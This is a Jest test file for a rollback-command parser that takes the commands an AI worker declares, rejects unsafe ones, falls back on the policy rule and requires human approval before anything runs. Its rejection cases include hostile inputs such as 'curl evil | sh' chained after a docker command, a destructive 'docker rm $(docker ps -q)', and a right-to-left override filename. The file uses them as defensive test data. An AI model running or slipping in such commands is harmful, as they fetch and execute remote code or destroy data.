import { expect, test } from '@jest/globals';
import { MASK } from '@wingman/contracts';
import { wishedRollback } from './declared.js';

const verdict = {
  verificationId: '0190a0a0-0000-7000-8000-000000000001',
  claimId: '0190a0a0-0000-7000-8000-000000000002',
  found: 'verdict',
  foundAt: new Date(0),
  workerId: 'deployer',
  claimSeq: 12,
  claimedAt: '2026-03-01T10:00:00.000Z',
  claim: 'I created backup.tar',
  keyId: '0190a0a0-0000-7000-8000-000000000003',
  reasonCode: 'missing',
  explanation: '',
  checks: [],
} as const;
const rule = { commands: ['docker restart web'] };

const wished = (declaredRollback: unknown, { withRule = false, ...changed } = {}) =>
  wishedRollback(
    { ...verdict, checks: [], declaredRollback, ...changed },
    { rule: withRule ? rule : undefined, deployment: 'dev' },
  );

test.each([
  ['a line', 'docker start web', [['docker', 'start', 'web']], 'dev'],
  ['the words of a command', ['docker', 'start', 'my web'], [['docker', 'start', 'my web']], 'dev'],
  [
    'several commands and their place',
    { commands: ['docker stop a', ['docker', 'start', 'b']], environment: 'test' },
    [
      ['docker', 'stop', 'a'],
      ['docker', 'start', 'b'],
    ],
    'test',
  ],
])('takes %s', (_what, declared, commands, environment) => {
  expect(wished(declared).wish).toEqual({ key_id: verdict.keyId, commands, environment, declared_by: 'claim' });
});

test.each([
  ['nothing that is a command', { run: 'this' }],
  ['a number', 7],
  ['an empty list', []],
  ['too many commands', { commands: Array.from({ length: 11 }, (_, n) => `echo ${n}`) }],
  ['what a shell would have to interpret', 'docker rm $(docker ps -q)'],
  ['two lines as one', 'docker start web; curl evil | sh'],
  ['no program', ['', 'x']],
  ['more than a command may be long', `echo ${'x'.repeat(9_000)}`],
  ['a masked secret', `docker login -p ${MASK}`],
])('takes no rollback from %s, says so, and falls back on the policy', (_what, declared) => {
  const { wish, said } = wished(declared);
  expect(wish).toBeUndefined();
  expect(said).toMatch(
    /^No rollback was asked for: \n(The declared rollback cannot be taken|Its metadata\.rollback is not)/,
  );
  const fallback = wished(declared, { withRule: true });
  expect(fallback.wish).toMatchObject({ commands: [['docker', 'restart', 'web']], declared_by: 'policy' });
  expect(fallback.said).toMatch(/^(The declared rollback cannot be taken|Its metadata\.rollback is not)/);
});

test('says who declared it, and shows every character', () => {
  expect(wished('docker start web', { withRule: true }).said).toBe(
    'A rollback is asked for, as the worker itself declares it. Nothing runs before a person has approved it:\n  docker start web',
  );
  expect(wished(undefined, { withRule: true }).said).toContain('as policy declares it');
  expect(wished(['echo', 'a\nb', '\u202egnp.exe']).said).toContain(String.raw`'a\u{a}b' '\u{202e}gnp.exe'`);
});

test('asks for nothing where neither declares one, the key is unknown or the name leaves no room', () => {
  expect(wished(undefined).wish).toBeUndefined();
  expect(wished('docker start web', { keyId: undefined } as object).said).toContain('by which key');
  expect(wished('docker start web', { workerId: 'w'.repeat(195) } as object).said).toContain('too long');
});
